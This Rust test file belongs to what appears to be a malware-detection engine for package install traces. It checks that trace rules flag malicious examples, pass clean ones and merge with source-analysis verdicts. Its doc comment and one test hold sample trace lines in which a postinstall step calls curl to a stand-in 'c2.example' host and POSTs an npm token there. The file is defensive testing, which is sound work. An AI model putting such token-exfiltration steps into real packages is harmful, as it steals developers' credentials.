//! The pages of rules about traces are tests as the others are. Their examples are lists of events, one a line:
//!
//! ```text
//! step postinstall : install node main.js         a step, its phase, its command line
//! 3 exec /usr/bin/curl curl https://c2.example    process 3; `-` is a process that nobody knows
//! 3 http POST https://c2.example/ 120 tokens=npm-token:base64
//! ```

use analysis::{
    analyse_trace,
    rules::{Example, Page, trace},
};
use model::{
    Analysis, Decision, Digest, Event, EventSource, Finding, Kind, Phase, Trace, TraceDeed, TraceStep, Verdict,
};

#[test]
fn every_page_of_a_trace_rule_is_complete() {
    let lacks = |rule: &trace::TraceRule| {
        let page = Page::parse(rule.page);
        let missing = page.missing();
        let evasive = page.examples.iter().filter(|example| example.flagged).count() < 2;
        (!missing.is_empty() || evasive)
            .then(|| format!("rules/{}.md lacks {missing:?} or a second flagged example", rule.id))
    };
    let wrong: Vec<String> = trace::all().filter_map(lacks).collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn every_flagged_trace_is_found_and_every_clean_one_is_not() {
    let mut wrong = Vec::new();
    for rule in trace::all() {
        for example in Page::parse(rule.page).examples {
            let foreseen = example.files.iter().any(|file| file.path == "read").then(empty_analysis);
            let text = example.files.last().map_or("", |file| &file.text);
            let (findings, gaps) = analyse_trace(&read(text), foreseen.as_ref());
            assert!(gaps.is_empty(), "{gaps:?}");
            if let Err(what) = judge(rule.id, &example, &findings) {
                wrong.push(format!("rules/{}.md, {}: {what}", rule.id, example.name));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

fn judge(rule: &str, example: &Example, findings: &[Finding]) -> Result<(), String> {
    let found: Vec<_> = findings.iter().filter(|finding| finding.rule == rule).collect();
    let all: Vec<_> = findings.iter().map(|one| (&one.rule, one.kind, &one.note)).collect();
    if !example.flagged {
        let heavy = findings.iter().any(|finding| finding.kind == Kind::Proof);
        return if found.is_empty() && !heavy { Ok(()) } else { Err(format!("is called clean, but: {all:?}")) };
    }
    let holds = |word: &String| {
        found.iter().any(|finding| match word.as_str() {
            "proof" | "indicator" => finding.kind.to_string() == *word,
            phase => finding.phase.as_str() == phase,
        })
    };
    match example.expected.iter().find(|word| !holds(word)) {
        _ if found.is_empty() => Err(format!("was not found; found were {all:?}")),
        Some(word) => Err(format!("\"{word}\" does not hold: {found:?}")),
        None => Ok(()),
    }
}

#[test]
fn two_witnesses_make_one_verdict() {
    let trace = read("step postinstall : install\n3 http POST https://c2.example/ 120 tokens=npm-token:raw\n");
    let mut alone = empty_analysis();
    assert_eq!(alone.verdict.decision, Decision::Benign);
    analysis::join_trace(&mut alone, &trace);
    assert_eq!(alone.verdict.decision, Decision::Malicious);
    assert!(alone.verdict.reason.contains("The source does not show it."), "{}", alone.verdict.reason);

    let mut foreseen = empty_analysis();
    let (mut findings, _) = analyse_trace(&trace, None);
    findings.truncate(1);
    findings[0].rule = "sends-environment".into();
    foreseen.verdict.findings = findings;
    analysis::join_trace(&mut foreseen, &trace);
    let notes: Vec<_> = foreseen.verdict.findings.iter().map(|one| one.note.as_str()).collect();
    assert!(notes.iter().any(|note| note.contains("The source says so too (sends-environment).")), "{notes:?}");

    let mut cut = empty_analysis();
    let gaps = vec![model::Gap::new(model::GapKind::Limit, "", "The ceiling on time was hit.")];
    analysis::join_trace(&mut cut, &Trace { gaps, ..Trace::default() });
    assert_eq!(cut.verdict.decision, Decision::Inconclusive, "what was not seen to its end is not benign");
}

fn empty_analysis() -> Analysis {
    Analysis::of(Verdict {
        artifact: model::ArtifactId { release: None, file_name: "x.tgz".into(), sha256: Digest([0; 32]) },
        decision: Decision::Benign,
        score: model::Score(0),
        balance: model::Balance::default(),
        reason: String::new(),
        findings: Vec::new(),
        coverage: model::Coverage::default(),
        author: model::Author::Engine { version: "0".into(), ruleset: "0".into() },
    })
}

/// A trace from its lines.
fn read(text: &str) -> Trace {
    let mut trace = Trace::default();
    for line in text.lines().filter(|line| !line.trim().is_empty() && !line.starts_with('#')) {
        if let Some(step) = line.strip_prefix("step ") {
            trace.steps.push(read_step(step));
            continue;
        }
        let mut words = split(line).into_iter();
        let process = words.next().expect("a process");
        let (named, plain): (Vec<_>, Vec<_>) = words.partition(|word| is_named(word));
        let get =
            |name: &str| named.iter().find_map(|word| word.strip_prefix(name)?.strip_prefix('=').map(str::to_owned));
        let plain: Vec<&str> = plain.iter().map(String::as_str).filter(|word| !matches!(*word, "!failed")).collect();
        trace.events.push(Event {
            number: u32::try_from(trace.events.len()).expect("few"),
            micros: 0,
            step: u32::try_from(trace.steps.len().saturating_sub(1)).expect("few"),
            process: process.parse().unwrap_or(0),
            parent: 0,
            source: EventSource::Tracer,
            deed: deed(&plain, &get).unwrap_or_else(|| panic!("what happens in `{line}`?")),
            ok: !line.ends_with("!failed"),
            tokens: get("tokens").map(|list| list.split(',').map(str::to_owned).collect()).unwrap_or_default(),
            causes: Vec::new(),
        });
    }
    trace
}

const NAMES: &[&str] = &["tokens", "answered", "sha", "head", "agent"];

fn is_named(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| NAMES.contains(&name))
}

fn read_step(line: &str) -> TraceStep {
    let (name, rest) = line.split_once(" : ").expect("a phase");
    let mut words = split(rest).into_iter();
    let phase = words.next().expect("a phase");
    TraceStep {
        name: name.to_owned(),
        phase: Phase::ALL.into_iter().find(|one| one.as_str() == phase).expect("a phase"),
        profile: "developer".into(),
        argv: words.collect(),
        exit: Some(0),
        output: String::new(),
        millis: 0,
    }
}

fn deed(words: &[&str], get: &dyn Fn(&str) -> Option<String>) -> Option<TraceDeed> {
    let text = |at: usize| words.get(at).map(|word| (*word).to_owned()).unwrap_or_default();
    let digest = |name: &str| get(name).map(|hex| Digest([u8::from_str_radix(&hex, 16).expect("a byte"); 32]));
    let size = |at: usize| words.get(at).and_then(|word| word.parse().ok()).unwrap_or(0);
    let head = get("head").unwrap_or_default().replace("\\n", "\n");
    Some(match *words.first()? {
        "exec" => TraceDeed::Exec {
            path: text(1),
            argv: words[2..].iter().map(|word| (*word).to_owned()).collect(),
            sha256: digest("sha"),
            changed: Vec::new(),
        },
        "fork" => TraceDeed::Fork { child: words.get(1)?.parse().ok()? },
        "read" => {
            TraceDeed::Open { asked: words.get(2).map_or_else(|| text(1), |_| text(2)), path: text(1), write: false }
        }
        "write" => TraceDeed::Open { asked: text(1), path: text(1), write: true },
        "unlink" => TraceDeed::Unlink { path: text(1) },
        "rename" => TraceDeed::Rename { from: text(1), to: text(2) },
        "chmod" => TraceDeed::Chmod { path: text(1), mode: 0o755 },
        "memfd" => TraceDeed::Memfd { name: text(1) },
        "file" => TraceDeed::File { path: text(1), size: 9, sha256: digest("sha")?, head, vanished: false },
        "connect" => TraceDeed::Connect { address: text(1), name: None },
        "dns" => TraceDeed::Dns { name: text(1), record: words.get(2).map_or("A", |word| word).to_owned() },
        "http" => TraceDeed::Http {
            method: text(1),
            url: text(2),
            headers: get("agent").map(|agent| ("user-agent".to_owned(), agent)).into_iter().collect(),
            size: size(3),
            sha256: None,
            head,
            status: 200,
            answered: digest("answered"),
        },
        "raw" => TraceDeed::Raw {
            address: text(1),
            protocol: text(2),
            sent: size(3),
            head,
            waited: words.contains(&"waited"),
        },
        "refused" => TraceDeed::Refused { call: text(1), why: words[2..].join(" ") },
        "probe" => TraceDeed::Probe { what: text(1) },
        "slept" => TraceDeed::Slept { millis: size(1) },
        _ => return None,
    })
}

/// Words; what stands in single quotes is one.
fn split(line: &str) -> Vec<String> {
    let (mut words, mut word, mut quoted, mut open) = (Vec::new(), String::new(), false, false);
    for one in line.chars() {
        match one {
            '\'' => (quoted, open) = (!quoted, true),
            ' ' if !quoted => {
                if !word.is_empty() || open {
                    words.push(std::mem::take(&mut word));
                }
                open = false;
            }
            other => word.push(other),
        }
    }
    if !word.is_empty() || open {
        words.push(word);
    }
    words
}
